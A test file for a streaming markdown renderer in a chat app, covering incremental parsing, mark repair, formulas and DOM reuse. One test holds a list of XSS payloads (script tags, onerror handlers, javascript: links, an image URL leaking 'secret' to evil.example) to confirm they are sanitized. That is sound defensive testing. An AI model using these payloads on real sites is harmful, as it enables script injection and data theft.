import "./dom.ts";
import assert from "node:assert/strict";
import { test } from "node:test";
import { until } from "./dom.ts";
import { cut } from "../src/markdown/blocks.ts";
import { LiveMarkdown } from "../src/markdown/live-markdown.ts";
import { lex, render } from "../src/markdown/markdown.ts";
import { mend } from "../src/markdown/mend.ts";
import { canonicalHtml } from "./canonical.ts";

const DOCUMENTS = [
  "# Title\n\nA *paragraph* with `code`,\ngoing on.\n\n- one\n- two\n\n  more of two\n- three\n\nEnd.\n",
  "Title\n-----\n\nText\n=\nother\n\n1. a\n   ```java\n   int x;\n   ```\n2. b\n\n> quote\n> - in it\nlazy\n\nafter\n",
  "```java\nclass A {\n\n}\n```\nText right after\n\n~~~\n```\n~~~\n\n    indented\n\n    code\n\nlast",
  "| a | b |\n|---|--:|\n| 1 | 2 |\n| x\n\nText\n| no | table\n\n***\n* star\n* star\n+ plus\n",
  "<div>\nraw\n</div>\n\nText <script>alert(1)</script> List<String>\n\n<!-- c\n\n-->\nx\n",
  "[a]: https://a.example\n'title'\n\nSee [a] and https://b.example.\n\n- [ ] open\n- [x] done\n\n- loose\n\n\n\nend",
  "Then\n\n\\[\n\nx_1 < y_2\n\n\\]\n\nand \\(a*b*c\\) or\n$$\n- a\n\n+ b\n$$\nend\n\n\\[ c_1 **x** never ends\n\nmore\n\n- list\n\nend\n",
  "Note[^1] and[^x].\n\n[^1]: First\n    still first\n\n    and more\n[^2]: Second\n\nAfter ![a](https://a.example/x.png) 100~200 it.\n\n- [ ] a\n- [x] b\n",
  "漢字 **重要：** 👩‍🚀\n\nZweiter Absatz\nweiter\n",
];

function html(nodes: Node[]): string {
  const box = document.createElement("div");
  box.append(...nodes);
  return canonicalHtml(box);
}

const whole = (text: string): string => html(lex(text).flatMap(render));

test("what is closed is never changed by what follows, at whatever character the text is cut", () => {
  for (const text of DOCUMENTS.filter((it) => !it.startsWith("[a]:"))) {
    let tail = "";
    const nodes: Node[] = [];
    for (const char of text) {
      tail += char;
      const { closed, closedChars } = cut(tail);
      nodes.push(...closed.flatMap(render));
      tail = tail.slice(closedChars);
    }
    assert.equal(html([...nodes, ...lex(tail).flatMap(render)]), whole(text));
  }
});

test("of a long text only the last block stays live", () => {
  const { closed, live } = cut("one\n\ntwo\n\nthree\n\nfour begins\nand grows");
  assert.deepEqual([closed.filter(({ type }) => type !== "space").length, live.length], [3, 1]);
});

test("a closed fence is closed before anything follows it", () => {
  assert.equal(cut("```js\nx\n```\n").live.length, 0);
  assert.equal(cut("```js\nx\n").closed.length, 0);
});

test("nothing a model writes becomes more than text", () => {
  const hostile = [
    "<script>alert(1)</script>", "a <img src=x onerror=alert(1)> b", "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](//evil.example)",
    "[x](data:text/html,x)", "<iframe src=https://evil.example></iframe>", "<style>body{display:none}</style>",
    "<form action=/chat><input></form>", "<svg onload=alert(1)>", "<p style=\"position:fixed\">x</p>",
    "<chat-app data-chat=x>", "<br onclick=alert(1)>", "```\"><script>alert(1)</script>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "</template><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "- <code-block onclick=x lang=y>",
  ];
  for (const text of hostile) {
    const box = document.createElement("div");
    box.append(...lex(text).flatMap(render));
    const forbidden = box.querySelectorAll("script,img,svg,iframe,style,form,input,chat-app,template,math,[style],[onclick],[onerror]");
    assert.equal(forbidden.length, 0, text);
    for (const link of box.querySelectorAll("a[href]")) assert.match(link.getAttribute("href") ?? "", /^(https?|mailto):/, text);
  }
});

test("a tag in a sentence stays readable, and a few harmless ones work", () => {
  assert.equal(whole("Use List<String> here"), '<p dir="auto">Use List&lt;String&gt; here</p>');
  assert.equal(whole("H<sub>2</sub>O<br>x"), '<p dir="auto">H<sub>2</sub>O<br>x</p>');
});

test("a column keeps its alignment and a table can be reached by keyboard", () => {
  assert.match(whole("| a | b |\n|---|--:|\n| 1 | 2 |"), /<table-box [^>]*tabindex="0"><table>[^]*<td align="right" dir="auto">2<\/td>/);
});

test("a link opens elsewhere and tells nothing", () => {
  assert.match(whole("[x](https://a.example)"), /rel="noopener nofollow noreferrer"/);
  assert.match(whole("[x](https://a.example)"), /target="_blank"/);
});

test("no half of a mark is shown", () => {
  assert.equal(mend("a **bold"), "a **bold**");
  assert.equal(mend("a **"), "a ");
  assert.equal(mend("a `co"), "a `co`");
  assert.equal(mend("see [the li"), "see the li");
  assert.equal(mend("see [the link](https://a.ex"), "see the link");
  assert.equal(mend("```\na **b"), "```\na **b");
  assert.equal(mend("done **b** [x](https://a) `c`"), "done **b** [x](https://a) `c`");
});

function live(stored = ""): { body: HTMLElement; markdown: LiveMarkdown } {
  const body = document.createElement("div");
  body.innerHTML = stored;
  document.body.append(body);
  return { body, markdown: new LiveMarkdown(body) };
}

test("a text that comes in pieces looks as if it had come at once", async () => {
  for (const text of DOCUMENTS) {
    const { body, markdown } = live();
    for (let at = 0; at < text.length; at += 17) {
      markdown.append(text.slice(at, at + 17));
      if (at % 51 === 0) await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    markdown.finish();
    if (!text.startsWith("[a]:")) assert.equal(html([...body.childNodes]), whole(text));
    assert.equal("live" in body.dataset, false);
  }
});

test("a committed block keeps its node, and the live one its text node", async () => {
  const { body, markdown } = live();
  markdown.append("First.\n\nSecond gr");
  await until(() => body.children.length === 2);
  const [first, second] = [...body.children];
  const text = second?.firstChild;
  markdown.append("ows");
  await until(() => body.textContent?.includes("grows") ?? false);
  markdown.append(" on.\n\nThird.");
  await until(() => body.children.length === 3);
  markdown.finish();
  assert.equal(body.children[0], first);
  assert.equal(body.children[1], second);
  assert.equal(second?.firstChild, text);
});

test("a formula that is being written keeps its signs, and is one when it is closed", async () => {
  for (const formula of ["\\(a_1 + \\frac{1}{2}\\)", "\\[ a_{1} * b_* \\]", "$$ x_1 [ y $$"]) {
    const { body, markdown } = live();
    for (const char of `So ${formula}`) {
      markdown.append(char);
      await new Promise((resolve) => requestAnimationFrame(resolve));
      const written = body.textContent ?? "";
      if (written.length > 5) assert.ok(written.startsWith(`So ${formula.slice(0, 2)}`), written);
    }
    markdown.finish();
    assert.equal(body.querySelector("math-formula")?.textContent, formula);
  }
});

test("a formula that is drawn stays drawn while the text behind it grows", async () => {
  const { body, markdown } = live();
  markdown.append("So \\(x\\) is");
  await until(() => body.querySelector("math-formula") !== null);
  const formula = body.querySelector("math-formula") as HTMLElement & { source?: string };
  Object.assign(formula, { source: "\\(x\\)" });
  formula.innerHTML = "<i>drawn</i>";
  markdown.append(" known");
  await until(() => body.textContent?.includes("known") ?? false);
  assert.equal(body.querySelector("math-formula"), formula);
  assert.equal(formula.innerHTML, "<i>drawn</i>");
});

test("signs without an end cost no more than they are long", () => {
  const begun = performance.now();
  for (const sign of ["\\(", "\\[ ", "$$ ", "\\[ a\n", "$$ a\n", "\n\n$$\n", "*\\(*", "[^a] ", "[^a]: b\n", "~~a ", "![a](", "\n\n- $$ "]) {
    cut(sign.repeat(3_000));
  }
  assert.ok(performance.now() - begun < 12_000, `${performance.now() - begun} ms`);
});

test("a selection inside the live block survives its growth", async () => {
  const { body, markdown } = live();
  markdown.append("Select me while");
  await until(() => body.children.length === 1);
  const node = body.querySelector("p")?.firstChild as Text;
  getSelection()?.setBaseAndExtent(node, 0, node, 9);
  markdown.append(" it grows");
  await until(() => body.textContent?.includes("grows") ?? false);
  assert.equal(getSelection()?.toString(), "Select me");
});

test("what the server drew is adopted, not drawn again", async () => {
  const { body, markdown } = live("<p>One.</p>\n<p>Two beg</p>\n");
  const [one, two] = [...body.children];
  markdown.append("One.\n\nTwo beg");
  markdown.append("ins.");
  await until(() => body.textContent?.includes("begins") ?? false);
  assert.deepEqual([...body.children], [one, two]);
});

test("a reset throws away committed blocks too", async () => {
  const { body, markdown } = live();
  markdown.append("Wrong.\n\nWrong again.\n\nAnd");
  await until(() => body.children.length === 3);
  markdown.reset();
  markdown.append("Right");
  await until(() => body.textContent?.includes("Right") ?? false);
  assert.equal(body.textContent?.trim(), "Right");
});

test("a block of code names its language", () => {
  const box = document.createElement("div");
  box.append(...lex("- x\n  ```java\n  a < b\n  ```\n\n```c++ title\nx\n```").flatMap(render));
  const languages = [...box.querySelectorAll("code-block")].map((block) => block.getAttribute("language"));
  assert.deepEqual(languages, ["java", "c++"]);
  assert.equal(box.querySelector("code")?.textContent, "a < b");
});
